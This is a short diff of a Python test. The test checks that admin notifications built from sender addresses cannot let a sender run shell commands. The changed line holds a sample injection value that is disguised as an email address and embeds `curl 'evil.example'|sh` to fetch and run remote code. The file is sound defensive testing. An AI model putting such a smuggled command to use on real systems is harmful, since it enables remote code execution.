@@ -53,7 +53,7 @@ def test_a_forger_uses_up_nothing_of_who_is_believed_more(
 def test_the_admin_may_copy_the_commands_whatever_the_sender_is_called(database: Database) -> None:
     """A shell runs nothing that a sender has chosen: these are all signs of an address."""
     at = gate(database)
-    evil = "`curl$IFS'evil.example'|sh`@evil.example"
+    evil = "`curl${ifs}'evil.example'|sh`@evil.example"
     for number in range(5):
         sends(at, number, "none", evil)
     (told,) = [each for each in at.outbox() if each.event == "admin"]
